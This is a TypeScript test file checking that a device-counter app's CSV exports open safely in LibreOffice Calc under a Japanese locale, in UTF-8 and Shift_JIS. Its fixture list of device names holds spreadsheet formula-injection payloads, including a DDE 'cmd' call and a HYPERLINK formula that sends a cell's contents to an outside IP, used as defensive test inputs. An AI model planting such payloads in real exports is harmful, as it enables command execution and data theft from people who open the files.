/**
 * §4.6: the exports open rightly in LibreOffice Calc, with Japanese as the language
 * of numbers and dates: every cell, in both encodings, and no formula runs.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCounterQuery, type CounterQuery } from '#core/counter-query.ts';
import { byteOrderMark } from '#core/csv-field.ts';
import { csvEncodings, type CsvEncoding, type CsvOptions } from '#core/csv-options.ts';
import { parseCsv } from '#core/parse-csv.ts';
import { exportDevice } from '#server/services/export-device.ts';
import { exportMatrix } from '#server/services/export-matrix.ts';
import { exportPeriod } from '#server/services/export-period.ts';
import { ingest } from '#server/services/ingest.ts';
import { shiftJis } from '#server/shift-jis.ts';
import { delivery } from '#test/support/deliveries.ts';
import {
  libreOfficeAbsent,
  openInLibreOffice,
  type OpenedFile,
  patienceMs,
} from '#test/support/libreoffice.ts';
import type { SheetCell } from '#test/support/read-sheet.ts';
import { seed, type Seed } from '#test/support/seed.ts';
import { wholeText } from '#test/support/whole-text.ts';
import { testEngine } from '#test/support/test-engine.ts';

/** Device names that people and devices really give, or might to do harm. */
const names = [
  '1F 受付 複合機',
  '髙橋 ①〜㈱ ｶﾅ',
  'カンマ, と "引用符"',
  '二行の\n名前',
  'a;=1+1;b',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"開く")',
  '＝1+1',
  '@SUM(1+1)',
  '+81-3-0000-0000',
  '\t=1+1',
  '　=1+1',
  '-',
] as const;

/** How a name stands in the sheet: a formula behind a quote, which Shift_JIS's ～ may follow. */
function shown(name: string, encoding: CsvEncoding): string {
  const text = /^[\s]*[=+@＝]/.test(name.trim()) ? `'${name.trim()}` : name.trim();
  return encoding === 'shift_jis' ? text.replaceAll('〜', '～') : text;
}

const query = (text: string): CounterQuery => {
  const parsed = parseCounterQuery(new URLSearchParams(text), '2026-11-22');
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  return parsed.query;
};
const months = query('from=2026-08&to=2026-11');

describe.skipIf(libreOfficeAbsent !== null)(
  `LibreOffice${libreOfficeAbsent === null ? '' : ` (skipped: ${libreOfficeAbsent})`}`,
  () => {
    let office: Seed;
    const texts = new Map<string, string>();
    const sheets = new Map<string, SheetCell[][]>();

    beforeAll(async () => {
      office = await seed(testEngine, {
        devices: [
          ...names.map((name) => ({ name, kind: 'mfp-color' as const, location: '3F 開発室' })),
          { name: '大判', kind: 'large-format', location: '1-2' },
        ],
      });
      const counted = (total: number) => ({ total, color: total / 2, mono: total / 2 });
      for (const deviceId of office.devices.values()) {
        const unit = deviceId === office.devices.get('大判') ? 'm2' : 'impressions';
        const part = unit === 'm2' ? 0.125 : 0;
        await ingest(office.ctx, [
          delivery(deviceId, '2026-08-30T03:00:00.000Z', counted(1_200_000 + part), { unit }),
          delivery(deviceId, '2026-10-30T03:00:00.000Z', counted(1_234_568 + part * 2), { unit }),
        ]);
      }
      const files: OpenedFile[] = [];
      const keys: string[] = [];
      const add = (key: string, encoding: CsvEncoding, text: string, more = {}) => {
        const bytes =
          encoding === 'utf-8'
            ? new TextEncoder().encode(byteOrderMark + text)
            : shiftJis.encode(text);
        keys.push(`${key} ${encoding}`);
        texts.set(`${key} ${encoding}`, text);
        files.push({ bytes, encoding, ...more });
      };
      const { ctx } = office;
      const deviceId = office.devices.get(names[0]) ?? '';
      for (const encoding of csvEncodings) {
        const form = (more: Partial<CsvOptions> = {}) => ({ encoding, preamble: false, ...more });
        const matrix = await wholeText(await exportMatrix(ctx, months, form()));
        add('matrix', encoding, matrix);
        add('all separators', encoding, matrix, { separators: ',;\t' });
        add('figures as text', encoding, matrix, { quotedAsText: true });
        add('whole', encoding, await wholeText(await exportMatrix(ctx, months, { encoding })));
        const tidy = form({ form: 'tidy' });
        add('tidy', encoding, await wholeText(await exportMatrix(ctx, months, tidy)));
        const input = { breakdown: 'base', query: months } as const;
        const device = await exportDevice(ctx, { deviceId, ...input }, form());
        add('device', encoding, await wholeText(device));
        const period = await exportPeriod(ctx, { period: '2026-10', ...input }, form());
        add('period', encoding, await wholeText(period));
      }
      add('control', 'utf-8', 'a,=1+1\r\n');
      for (const [index, sheet] of (await openInLibreOffice(files)).entries()) {
        sheets.set(keys[index] ?? '', sheet);
      }
    }, patienceMs);

    afterAll(async () => {
      await office[Symbol.asyncDispose]();
    });

    const sheet = (key: string) => sheets.get(key) ?? [];

    it('would run a formula, were there one', () => {
      expect(sheet('control utf-8')[0]?.[1]).toMatchObject({ number: 2, formula: 'of:=1+1' });
    });

    describe.each(csvEncodings)('in %s', (encoding) => {
      it.each(['matrix', 'all separators', 'figures as text', 'whole', 'tidy', 'device', 'period'])(
        '%s: every cell is the file’s, numbers are numbers, nothing runs',
        (key) => {
          const opened = sheet(`${key} ${encoding}`).filter((row) => row.length > 0);
          const written = parseCsv(texts.get(`${key} ${encoding}`) ?? '');
          expect(opened).toHaveLength(written.length);
          for (const [index, { cells }] of written.entries()) {
            const row = opened[index] ?? [];
            expect(row.map((cell) => cell.formula).filter((formula) => formula !== null)).toEqual(
              [],
            );
            for (const [column, text] of cells.entries()) {
              const cell = row[column];
              if (/^\d+(\.\d+)?$/.test(text)) expect(cell?.number).toBe(Number(text));
              else if (isDate(text) && key !== 'figures as text') {
                expect(['date', 'string']).toContain(cell?.type);
              } else expect(cell?.text ?? '').toBe(text);
            }
          }
        },
      );

      it('the headings are Japanese, the names as they are called', () => {
        const [heading = [], ...rows] = sheet(`matrix ${encoding}`);
        expect(heading.map(({ text }) => text)).toEqual([
          ...['デバイス名', 'デバイス種別', 'デバイス設置場所', 'グループ名', '単位'],
          ...['2026-08', '2026-09', '2026-10', '2026-11', '合計', '備考'],
        ]);
        const expected = names.map((name) => shown(name, encoding));
        expect(rows.map(([name]) => name?.text)).toEqual(expect.arrayContaining(expected));
      });

      it('values are what was counted, "-" what was not, and the rest is told', () => {
        const row = sheet(`matrix ${encoding}`).find(([name]) => name?.text === names[0]);
        expect(row?.slice(5, 10).map(({ number, text }) => number ?? text)).toEqual([
          ...[1_200_000, '-', 34_568, '-', 1_234_568],
        ]);
        expect(row?.at(-1)?.text).toContain('2か月分の値');
        const large = sheet(`matrix ${encoding}`).find(([name]) => name?.text === '大判');
        expect(large?.[4]?.text).toBe('㎡');
        expect(large?.[5]?.number).toBe(1_200_000.125);
      });

      it('figures that are names stay so where quoted fields are opened as text', () => {
        const large = sheet(`figures as text ${encoding}`).find(([name]) => name?.text === '大判');
        expect(large?.[2]?.text).toBe('1-2');
      });
    });
  },
);

/** What some releases take for a date; quotes let the reader open it as text. */
function isDate(text: string): boolean {
  return /^\d{1,2}-\d{1,2}$/.test(text);
}
